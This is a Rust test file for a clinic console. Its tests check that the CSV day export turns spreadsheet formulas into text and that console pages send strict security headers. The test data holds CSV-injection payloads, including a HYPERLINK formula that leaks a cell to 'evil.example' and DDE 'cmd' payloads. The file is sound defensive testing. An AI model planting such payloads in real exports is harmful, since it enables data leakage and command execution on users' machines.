// SPDX-License-Identifier: MPL-2.0
//! The console's answers (issue 22, items 2 and 10): formulas in the day
//! export come out as text; every page forbids script, framing, sniffing,
//! referrers and caching.

use chrono::Utc;
use houmon_server::db::staff::Role;
use houmon_tests::clinic::*;
use houmon_tests::console::*;
use houmon_vcard::VirtualCard;

/// The cells a spreadsheet would run as a formula (OWASP's CSV-injection
/// rule, and the full-width forms Japanese input produces).
fn is_formula(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'])
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn formulas_in_patient_data_come_out_of_the_day_export_as_text() {
    let hostile = [
        r#"=HYPERLINK("http://evil.example/?"&A1,"詳細")"#,
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "＝1+1",
    ];
    let mut patients = Vec::new();
    for (i, name) in hostile.iter().enumerate() {
        let mut p = patient(&format!("p{i}"), Some(i as u32));
        p.name = (*name).to_owned();
        patients.push(p);
    }
    // Fields that are not checked for control characters at all.
    patients[0].kana = "\t=1+1".into();
    patients[1].insurance.as_mut().unwrap().symbol = "\r=1+1".into();
    let clinic = start_clinic(patients, vec![], false).await;
    staff_with_password(&clinic, "clerk", Role::Clerk);
    let phone = Phone::new(&clinic, "dev-1").await;
    for i in 0..hostile.len() {
        phone.pin_visit(VirtualCard::standard(), &format!("p{i}"), Utc::now()).await;
    }
    assert_eq!(phone.sync.upload_due().await.unwrap().sent.len(), hostile.len());
    let c = Console::logged_in(&clinic, "clerk").await;
    for path in ["/console/export.csv", "/console/export.csv?encoding=utf-8"] {
        let (status, bytes) = c.bytes(path).await;
        assert_eq!(status, 200, "{path}");
        let text = if path.contains("utf-8") {
            String::from_utf8(bytes).unwrap().trim_start_matches('\u{feff}').to_owned()
        } else {
            encoding_rs::SHIFT_JIS.decode(&bytes).0.into_owned()
        };
        let rows = csv_cells(&text);
        assert_eq!(rows.len(), hostile.len() + 1, "{path}: {text}");
        for cell in rows.iter().flatten() {
            assert!(!is_formula(cell), "{path}: a cell a spreadsheet runs: {cell:?}");
        }
        // The text itself is kept, for a person to read.
        let names: Vec<&str> = rows[1..].iter().map(|r| r[3].as_str()).collect();
        for name in hostile {
            assert!(names.contains(&format!("'{name}").as_str()), "{path}: {name} in {names:?}");
        }
    }
    clinic.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn console_answers_forbid_framing_inline_script_sniffing_referrers_and_caching() {
    let clinic = start_clinic(vec![patient("p0", None)], vec![], false).await;
    staff_with_password(&clinic, "admin", Role::Admin);
    let c = Console::logged_in(&clinic, "admin").await;
    for path in [
        "/console/login",
        "/console/",
        "/console/patients",
        "/console/patients/p0",
        "/console/export.csv",
    ] {
        let page = if path == "/console/login" {
            Console::new(&clinic).get(path).await
        } else {
            c.get(path).await
        };
        assert_eq!(page.status, 200, "{path}");
        let h = |name: &str| {
            page.headers.get(name).and_then(|v| v.to_str().ok()).unwrap_or_default().to_owned()
        };
        let csp = h("content-security-policy");
        let directives: Vec<&str> = csp.split(';').map(str::trim).collect();
        assert!(directives.contains(&"default-src 'none'"), "{path}: {csp:?}");
        assert!(directives.contains(&"frame-ancestors 'none'"), "{path}: {csp:?}");
        assert!(
            !directives.iter().any(|d| d.starts_with("script-src")),
            "{path}: no script at all: {csp:?}"
        );
        assert_eq!(h("x-content-type-options"), "nosniff", "{path}");
        assert_eq!(h("referrer-policy"), "no-referrer", "{path}");
        assert!(h("cache-control").contains("no-store"), "{path}: {:?}", h("cache-control"));
    }
    // The roster a phone reads carries names and addresses: not kept either.
    clinic.assign(today(), "dev-raw", &["p0"]);
    let raw = super::Raw::enrol(&clinic, "dev-raw").await;
    let resp = raw
        .http
        .get(format!("{}/v1/roster?day={}", raw.url, today()))
        .bearer_auth(&raw.token)
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status().as_u16(), 200);
    assert!(resp.headers()["cache-control"].to_str().unwrap().contains("no-store"));
    assert_eq!(resp.headers()["x-content-type-options"], "nosniff");
    clinic.shutdown().await;
}
